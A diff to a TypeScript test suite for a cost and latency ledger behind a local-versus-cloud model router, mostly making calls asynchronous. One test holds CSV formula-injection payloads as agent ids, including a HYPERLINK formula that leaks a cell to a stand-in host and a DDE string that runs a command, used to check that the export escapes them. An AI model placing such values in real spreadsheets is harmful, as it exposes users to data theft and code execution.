@@ -11,6 +11,7 @@ import { migrations as routerMigrations } from '../../src/engine/router/router.j
 const ALL = [...migrations, ...routerMigrations];
 import { loadPriceTable } from '../../src/engine/ledger/prices.js';
 import type { CompletionEntry } from '../../src/engine/ledger/types.js';
+import { ledgerRepo } from '../helpers/repos.js';
 
 // ---------------------------------------------------------------------------------------------
 // The script: entries at known times, and an independent hand calculation from them and the raw
@@ -280,10 +281,10 @@ describe('Ledger', () => {
 
   const open = () => {
     db = openDatabase(file, ALL);
-    ledger = new Ledger({ db, prices: loadPriceTable(), localCost: LOCAL, now: () => now });
+    ledger = new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), localCost: LOCAL, now: () => now });
   };
 
-  beforeEach(() => {
+  beforeEach(async () => {
     dir = mkdtempSync(join(tmpdir(), 'ledger-'));
     file = join(dir, 'ledger.db');
     open();
@@ -291,7 +292,7 @@ describe('Ledger', () => {
       now = s.at;
       if (s.decision) {
         const d = s.decision;
-        ledger.recordDecision({
+        await ledger.recordDecision({
           decisionId: s.e.decisionId!,
           route: d.route,
           strategy: d.strategy,
@@ -307,11 +308,11 @@ describe('Ledger', () => {
           forced: d.forced ?? false,
         });
       }
-      ledger.recordCompletion(s.e);
+      await ledger.recordCompletion(s.e);
     }
     for (const c of CLOUD_DECISIONS) {
       now = c.at;
-      ledger.recordDecision({
+      await ledger.recordDecision({
         decisionId: c.id,
         route: c.route,
         strategy: c.strategy,
@@ -453,7 +454,7 @@ describe('Ledger', () => {
 
   it('escapes CSV cells a spreadsheet would run as a formula (agent ids come from tool arguments)', async () => {
     const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
-    for (const agentId of hostile) ledger.recordCompletion(base({ agentId, promptTokens: 10, completionTokens: 10, route: 'local' }));
+    for (const agentId of hostile) await ledger.recordCompletion(base({ agentId, promptTokens: 10, completionTokens: 10, route: 'local' }));
     const r = await ledger.report({ period: 'all', groupBy: 'agent' });
     // ids are trimmed when recorded; a cell starting with a tab or CR is escaped too
     r.rows.push({ ...r.rows[0], group: '\tTAB' }, { ...r.rows[0], group: '\rCR' });
@@ -473,12 +474,12 @@ describe('Ledger', () => {
 
   it('keeps every figure across a restart (close and reopen the database)', async () => {
     const before = await ledger.report({ period: 'month', groupBy: 'model' });
-    const stats = ledger.backendStats();
+    const stats = await ledger.backendStats();
     db.close();
     open();
     const after = await ledger.report({ period: 'month', groupBy: 'model' });
     expect(after).toEqual(before);
-    expect(ledger.backendStats()).toEqual(stats);
+    expect(await ledger.backendStats()).toEqual(stats);
     // migrations ran once
     expect((db.prepare("SELECT COUNT(*) AS n FROM schema_migrations WHERE module = 'ledger'").get() as { n: number }).n).toBe(
       migrations.length,
@@ -490,7 +491,7 @@ describe('Ledger', () => {
       /unknown period "year"; use one of hour, day, week, month, all/,
     );
     await expect(ledger.report({ groupBy: 'team' as never })).rejects.toThrow(
-      /unknown groupBy "team"; use one of model, route, strategy, agent, day, none/,
+      /unknown groupBy "team"; use one of model, route, strategy, agent, day, node, none/,
     );
     await expect(ledger.report({ from: '2026-11-20', to: '2026-11-10' })).rejects.toThrow(
       /"from" \(2026-11-20\) is after "to" \(2026-11-10\)/,
@@ -498,19 +499,19 @@ describe('Ledger', () => {
     await expect(ledger.report({ from: 'yesterday' })).rejects.toThrow(/invalid "from" date "yesterday"; use an ISO 8601 date/);
     await expect(ledger.report({ to: '2026-13-45' })).rejects.toThrow(/invalid "to" date/);
     await expect(ledger.report({ period: 'day', from: '2026-11-01' })).rejects.toThrow(/either "period" or a "from"\/"to" range/);
-    expect(() => ledger.timeseries({ bucket: 'minute' as never })).toThrow(/unknown bucket "minute"/);
-    expect(() => ledger.recordCompletion(base({ promptTokens: -5 }))).toThrow(/promptTokens must be a finite number >= 0/);
-    expect(() => ledger.recordCompletion(base({ model: ' ' }))).toThrow(/model must be a non-empty string/);
-    expect(() => new Ledger({ db, prices: loadPriceTable(), localCost: { watts: 60 } })).toThrow(
+    await expect(ledger.timeseries({ bucket: 'minute' as never })).rejects.toThrow(/unknown bucket "minute"/);
+    await expect(ledger.recordCompletion(base({ promptTokens: -5 }))).rejects.toThrow(/promptTokens must be a finite number >= 0/);
+    await expect(ledger.recordCompletion(base({ model: ' ' }))).rejects.toThrow(/model must be a non-empty string/);
+    expect(() => new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), localCost: { watts: 60 } })).toThrow(
       /watts and localCost.usdPerKwh go together/,
     );
-    expect(() => new Ledger({ db, prices: loadPriceTable(), localCost: { usdPerHour: -1 } })).toThrow(
+    expect(() => new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), localCost: { usdPerHour: -1 } })).toThrow(
       /usdPerHour must be a finite number >= 0/,
     );
   });
 
   it('per-backend stats use nearest-rank percentiles of successful calls', async () => {
-    const s = ledger.backendStats();
+    const s = await ledger.backendStats();
     const gguf = s.find((x) => x.backend === 'gguf')!;
     // successful gguf latencies sorted: 500, 2500, 6000, 9000 (the failed 1500 is excluded from latency)
     expect(gguf).toMatchObject({ model: 'qwen-tiny', calls: 5, errors: 1, latencyP50: 2500, latencyP95: 9000, latencyP99: 9000 });
@@ -520,7 +521,7 @@ describe('Ledger', () => {
     const http = s.find((x) => x.backend === 'openai-http')!;
     expect(http).toMatchObject({ model: 'llama-small', calls: 2, errors: 0, latencyP50: 3100, latencyP99: 4000, ttftP50: 300 });
     // a window applies
-    expect(ledger.backendStats({ period: 'hour' }).map((x) => x.calls)).toEqual([2]);
+    expect((await ledger.backendStats({ period: 'hour' })).map((x) => x.calls)).toEqual([2]);
   });
 
   it('recentLatencyP50 reads the newest successful completions', async () => {
@@ -529,6 +530,27 @@ describe('Ledger', () => {
     expect(ledger.recentLatencyP50('gguf', 2)).toBe(500);
     expect(ledger.recentLatencyP50('gguf')).toBe(2500);
     expect(ledger.recentLatencyP50('nope')).toBeNull();
+  });
+
+  it('estimate() and recentLatencyP50 read an in-memory snapshot: loaded at start, updated by own completions, reloaded for others', async () => {
+    // a ledger opened on the stored history answers from it once ready() resolved (no store read while routing)
+    const db2 = openDatabase(file, ALL);
+    try {
+      const other = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), localCost: LOCAL, now: () => now });
+      await other.ready();
+      expect(other.recentLatencyP50(undefined, 3)).toBe(3100);
+      expect(other.estimate(1000, 400).computeUsd).toBeCloseTo(ledger.estimate(1000, 400).computeUsd, 12);
+      // its own completion shows at once, once recorded
+      await other.recordCompletion(base({ latencyMs: 100, tokensPerSecond: 1000 }));
+      expect(other.recentLatencyP50('gguf', 1)).toBe(100);
+      // the first ledger sees another connection's completion only after its snapshot is reloaded
+      expect(ledger.recentLatencyP50('gguf', 1)).toBe(500);
+      await ledger.refreshSnapshot();
+      expect(ledger.recentLatencyP50('gguf', 1)).toBe(100);
+      expect(ledger.recentLatencyP50(undefined, 3)).toBe(500); // 100, 500, 6000
+    } finally {
+      db2.close();
+    }
   });
 
   it('upgrades a version-1 ledger database in place', async () => {
@@ -544,10 +566,10 @@ describe('Ledger', () => {
     v1.close();
     const db2 = openDatabase(f, ALL);
     try {
-      const l2 = new Ledger({ db: db2, prices: loadPriceTable(), now: () => NOW });
+      const l2 = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), now: () => NOW });
       const p = priceOf(RAW.hostModel);
       expect((await l2.report()).totals.grossUsd).toBeCloseTo((1000 * p.input + 1000 * p.output) / 1e6, 10);
-      l2.recordCompletion(base({ overheadTokensIn: 5, overheadTokenMethod: 'estimate:chars/4' }));
+      await l2.recordCompletion(base({ overheadTokensIn: 5, overheadTokenMethod: 'estimate:chars/4' }));
       expect((await l2.report()).overheadTokenMethods).toEqual({ 'estimate:chars/4': 1 });
     } finally {
       db2.close();
@@ -555,7 +577,7 @@ describe('Ledger', () => {
   });
 
   it('decision stats count routes, complexity, reasons and privacy catches', async () => {
-    const d = ledger.decisionStats();
+    const d = await ledger.decisionStats();
     expect(d.total).toBe(4);
     expect(d.forced).toBe(1);
     expect(d.byRoute).toEqual({ cloud: 2, local: 1, local_required: 1 });
@@ -568,7 +590,7 @@ describe('Ledger', () => {
     ]);
     expect(d.privacyCatches).toEqual({ total: 1, byCategory: { email: 1, phone: 1 } });
     // a second record of the same decision is ignored
-    ledger.recordDecision({
+    await ledger.recordDecision({
       decisionId: 'dec-3',
       route: 'local',
       strategy: 'balanced',
@@ -582,11 +604,11 @@ describe('Ledger', () => {
       latencyMs: 1,
       forced: false,
     });
-    expect(ledger.decisionStats().byRoute.cloud).toBe(2);
+    expect((await ledger.decisionStats()).byRoute.cloud).toBe(2);
   });
 
   it('timeseries buckets by UTC day with running gross and net totals', async () => {
-    const t = ledger.timeseries({ period: 'all', bucket: 'day' });
+    const t = await ledger.timeseries({ period: 'all', bucket: 'day' });
     const h = hand(
       RAW.hostModel,
       () => true,
@@ -606,16 +628,16 @@ describe('Ledger', () => {
     }
     expect(t.routes.find((r) => r.t === '2026-11-21')!.counts).toEqual({ cloud: 1 });
     // a 24 h window picks hourly buckets
-    expect(ledger.timeseries({ period: 'day' }).bucket).toBe('hour');
+    expect((await ledger.timeseries({ period: 'day' })).bucket).toBe('hour');
   });
 
   it('latency histogram counts successful calls per backend into the bins', async () => {
-    const hist = ledger.latencyHistogram({ edges: [0, 1000, 5000] });
+    const hist = await ledger.latencyHistogram({ edges: [0, 1000, 5000] });
     expect(hist.edges).toEqual([0, 1000, 5000]);
     const by = Object.fromEntries(hist.backends.map((b) => [b.backend, b.counts]));
     expect(by.gguf).toEqual([1, 1, 2]); // 500 | 2500 | 6000, 9000
     expect(by['openai-http']).toEqual([0, 2, 0]); // 3100, 4000
-    expect(() => ledger.latencyHistogram({ edges: [5, 1] })).toThrow(/strictly increasing/);
+    await expect(ledger.latencyHistogram({ edges: [5, 1] })).rejects.toThrow(/strictly increasing/);
   });
 
   it('estimate() prices cloud work and the delegation overhead on the host model', async () => {
@@ -629,14 +651,14 @@ describe('Ledger', () => {
     expect(e.computeUsd).toBeCloseTo((400 / 45 / 3600) * 0.23, 10);
     expect(e.localUsd).toBeCloseTo(e.overheadUsd + e.computeUsd, 10);
     // a tool that reads its input itself: only the result passes through the host
-    const lean = new Ledger({ db, prices: loadPriceTable(), estimateOverhead: { argsFraction: 0 } });
+    const lean = new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), estimateOverhead: { argsFraction: 0 } });
     expect(lean.estimate(1000, 400).localUsd).toBeCloseTo((400 * p.input) / 1e6, 10);
     expect(() => ledger.estimate(-1, 0)).toThrow(/inputTokens must be a finite number >= 0/);
   });
 
   it('estimateDelegation(): host tokens and net dollars of a task done itself, by value and by reference', async () => {
     const p = priceOf(RAW.hostModel);
-    const plain = new Ledger({ db, prices: loadPriceTable() });
+    const plain = new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable() });
     // a 2,000-token file summarised into 200 tokens; by value the arguments carry it (2,010), by reference a path (20)
     const v = plain.estimateDelegation({ mode: 'value', materialTokens: 2000, argsTokens: 2010, resultTokens: 260, answerTokens: 200 });
     const r = plain.estimateDelegation({ mode: 'reference', materialTokens: 2000, argsTokens: 20, resultTokens: 260, answerTokens: 200 });
@@ -656,8 +678,8 @@ describe('Ledger', () => {
   it('tells listeners when something was recorded', async () => {
     let n = 0;
     const off = ledger.onChange(() => n++);
-    ledger.recordCompletion(base({ promptTokens: 1, completionTokens: 1 }));
-    ledger.recordDecision({
+    await ledger.recordCompletion(base({ promptTokens: 1, completionTokens: 1 }));
+    await ledger.recordDecision({
       decisionId: 'new',
       route: 'local',
       strategy: 'balanced',
@@ -672,7 +694,7 @@ describe('Ledger', () => {
       forced: false,
     });
     off();
-    ledger.recordCompletion(base({}));
+    await ledger.recordCompletion(base({}));
     expect(n).toBe(2);
   });
 
@@ -680,7 +702,7 @@ describe('Ledger', () => {
     const p = priceOf(RAW.hostModel);
     now = NOW - 10 * 60_000;
     // by reference: the host wrote a path (40 tokens of arguments) and did not read the 6,000-token file
-    ledger.recordCompletion(
+    await ledger.recordCompletion(
       base({
         promptTokens: 6100,
         completionTokens: 250,
@@ -691,7 +713,7 @@ describe('Ledger', () => {
         avoidedHostInputTokens: 6000,
       }),
     );
-    ledger.recordCompletion(
+    await ledger.recordCompletion(
       base({
         promptTokens: 0,
         completionTokens: 0,
@@ -704,7 +726,7 @@ describe('Ledger', () => {
       }),
     );
     // by value: the host pasted the same material into the call
-    ledger.recordCompletion(
+    await ledger.recordCompletion(
       base({
         promptTokens: 6100,
         completionTokens: 250,
@@ -737,14 +759,14 @@ describe('Ledger', () => {
     expect(Number(csv.find((x) => x.group === 'total')!.avoided_host_input_tokens)).toBe(6000);
     const before = (await ledger.report({ period: 'all' })).byInputMode;
     now = NOW + 5 * D;
-    ledger.rollup({ olderThanDays: 1 });
+    await ledger.rollup({ olderThanDays: 1 });
     expect((await ledger.report({ period: 'all' })).byInputMode).toEqual(before);
     // bad values are refused with what to fix
-    expect(() => ledger.recordCompletion(base({ inputMode: 'file' as never }))).toThrow(/inputMode must be "value" or "reference"/);
-    expect(() => ledger.recordCompletion(base({ inputMode: 'value', avoidedHostInputTokens: 10 }))).toThrow(
+    await expect(ledger.recordCompletion(base({ inputMode: 'file' as never }))).rejects.toThrow(/inputMode must be "value" or "reference"/);
+    await expect(ledger.recordCompletion(base({ inputMode: 'value', avoidedHostInputTokens: 10 }))).rejects.toThrow(
       /avoidedHostInputTokens applies to inputMode "reference"/,
     );
-    expect(() => ledger.recordCompletion(base({ inputMode: 'reference', avoidedHostInputTokens: -1 }))).toThrow(
+    await expect(ledger.recordCompletion(base({ inputMode: 'reference', avoidedHostInputTokens: -1 }))).rejects.toThrow(
       /avoidedHostInputTokens must be a finite number >= 0/,
     );
   });
@@ -752,9 +774,9 @@ describe('Ledger', () => {
   it('live backend stats: counts from counters of every process (kept across rollups), percentiles of the newest calls', async () => {
     const db2 = openDatabase(file, ALL);
     try {
-      const other = new Ledger({ db: db2, prices: loadPriceTable(), now: () => now });
-      other.recordCompletion(base({ latencyMs: 700, tokensPerSecond: 10 }));
-      other.recordCompletion(base({ backend: 'openai-http', model: 'llama-small', ok: false, error: 'HTTP 500' }));
+      const other = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), now: () => now });
+      await other.recordCompletion(base({ latencyMs: 700, tokensPerSecond: 10 }));
+      await other.recordCompletion(base({ backend: 'openai-http', model: 'llama-small', ok: false, error: 'HTTP 500' }));
       const live = await ledger.liveBackendStats();
       const gguf = live.find((x) => x.backend === 'gguf')!;
       expect(gguf).toMatchObject({ model: 'qwen-tiny', calls: 6, errors: 1 });
@@ -763,7 +785,7 @@ describe('Ledger', () => {
       expect(gguf).toMatchObject({ latencyP50: 700, latencyP99: 6000 });
       expect((await ledger.liveBackendStats(2))[0]).toMatchObject({ calls: 6, latencyP50: 500, latencyP99: 700 });
       expect(await other.liveBackendStats()).toEqual(live);
-      other.rollup({ olderThanDays: 1 });
+      await other.rollup({ olderThanDays: 1 });
       expect((await ledger.liveBackendStats()).map((x) => [x.backend, x.calls, x.errors])).toEqual([
         ['gguf', 6, 1],
         ['openai-http', 3, 1],
@@ -776,7 +798,7 @@ describe('Ledger', () => {
   it('rolls rows past the retention age up by UTC day, and every report keeps its totals', async () => {
     // a decision older than the cut-off whose completion is newer: its route must still group that completion
     now = NOW - 5 * D;
-    ledger.recordDecision({
+    await ledger.recordDecision({
       decisionId: 'dec-late',
       route: 'local_required',
       strategy: 'privacy_first',
@@ -791,7 +813,9 @@ describe('Ledger', () => {
       forced: false,
     });
     now = NOW - H;
-    ledger.recordCompletion(base({ promptTokens: 70, completionTokens: 30, latencyMs: 800, decisionId: 'dec-late', tokensPerSecond: 20 }));
+    await ledger.recordCompletion(
+      base({ promptTokens: 70, completionTokens: 30, latencyMs: 800, decisionId: 'dec-late', tokensPerSecond: 20 }),
+    );
     now = NOW;
     const groupBys = ['none', 'model', 'route', 'strategy', 'agent', 'day'] as const;
     const windows = [
@@ -803,9 +827,9 @@ describe('Ledger', () => {
     ];
     const snapshot = async () => ({
       reports: await Promise.all(windows.flatMap((w) => groupBys.map((groupBy) => ledger.report({ ...w, groupBy })))),
-      timeseries: ledger.timeseries({ period: 'all', bucket: 'day' }),
-      decisions: (({ decisionLatencyP50Ms: _, ...rest }) => rest)(ledger.decisionStats()),
-      backends: ledger.backendStats().map((b) => ({ backend: b.backend, model: b.model, calls: b.calls, errors: b.errors })),
+      timeseries: await ledger.timeseries({ period: 'all', bucket: 'day' }),
+      decisions: (({ decisionLatencyP50Ms: _, ...rest }) => rest)(await ledger.decisionStats()),
+      backends: (await ledger.backendStats()).map((b) => ({ backend: b.backend, model: b.model, calls: b.calls, errors: b.errors })),
     });
     const before = await snapshot();
     const rows = () =>
@@ -814,7 +838,7 @@ describe('Ledger', () => {
     const rowsBefore = rows();
 
     // keep 2 days: everything before 2026-11-19T00:00Z is rolled up (the script has entries 40, 10, 5 and 3 days old)
-    const r = ledger.rollup({ olderThanDays: 2 });
+    const r = await ledger.rollup({ olderThanDays: 2 });
     expect(r.completions).toBe(4);
     expect(r.decisions).toBe(2); // dec-1 and dec-4; dec-late stays while its completion is raw
     expect(rows()).toBe(rowsBefore - 6);
@@ -826,15 +850,15 @@ describe('Ledger', () => {
     expectRow((await ledger.report({ period: 'all' })).totals, addLate(hand(RAW.hostModel, () => true).get('all')!));
 
     // idempotent, and another connection (another process) sees the same figures and finds nothing left to roll up
-    expect(ledger.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
+    expect(await ledger.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
     const db2 = openDatabase(file, ALL);
     try {
-      const other = new Ledger({ db: db2, prices: loadPriceTable(), localCost: LOCAL, now: () => now });
-      expect(other.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
+      const other = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), localCost: LOCAL, now: () => now });
+      expect(await other.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
       expect(await other.report({ period: 'all', groupBy: 'route' })).toEqual(before.reports[2]);
       // rolling everything up (the late completion too, then its decision) keeps the totals
       now = NOW + 3 * D;
-      expect(other.rollup({ olderThanDays: 1 })).toMatchObject({ completions: 4 });
+      expect(await other.rollup({ olderThanDays: 1 })).toMatchObject({ completions: 4 });
       expect((db.prepare('SELECT count(*) AS n FROM ledger_completions').get() as { n: number }).n).toBe(0);
       expect((db.prepare('SELECT count(*) AS n FROM router_decisions').get() as { n: number }).n).toBe(0);
       for (const groupBy of groupBys)
@@ -842,12 +866,12 @@ describe('Ledger', () => {
           ...before.reports[groupBys.indexOf(groupBy)],
           to: new Date(now).toISOString(),
         });
-      expect((({ decisionLatencyP50Ms: _, ...rest }) => rest)(ledger.decisionStats())).toEqual(before.decisions);
-      expect(ledger.decisionStats().privacyCatches.byCategory.email).toBe(2); // once per decision, as before
+      expect((({ decisionLatencyP50Ms: _, ...rest }) => rest)(await ledger.decisionStats())).toEqual(before.decisions);
+      expect((await ledger.decisionStats()).privacyCatches.byCategory.email).toBe(2); // once per decision, as before
     } finally {
       db2.close();
     }
-    expect(() => ledger.rollup({ olderThanDays: 0 })).toThrow(/olderThanDays must be a whole number of days >= 1/);
+    await expect(ledger.rollup({ olderThanDays: 0 })).rejects.toThrow(/olderThanDays must be a whole number of days >= 1/);
   });
 });
 
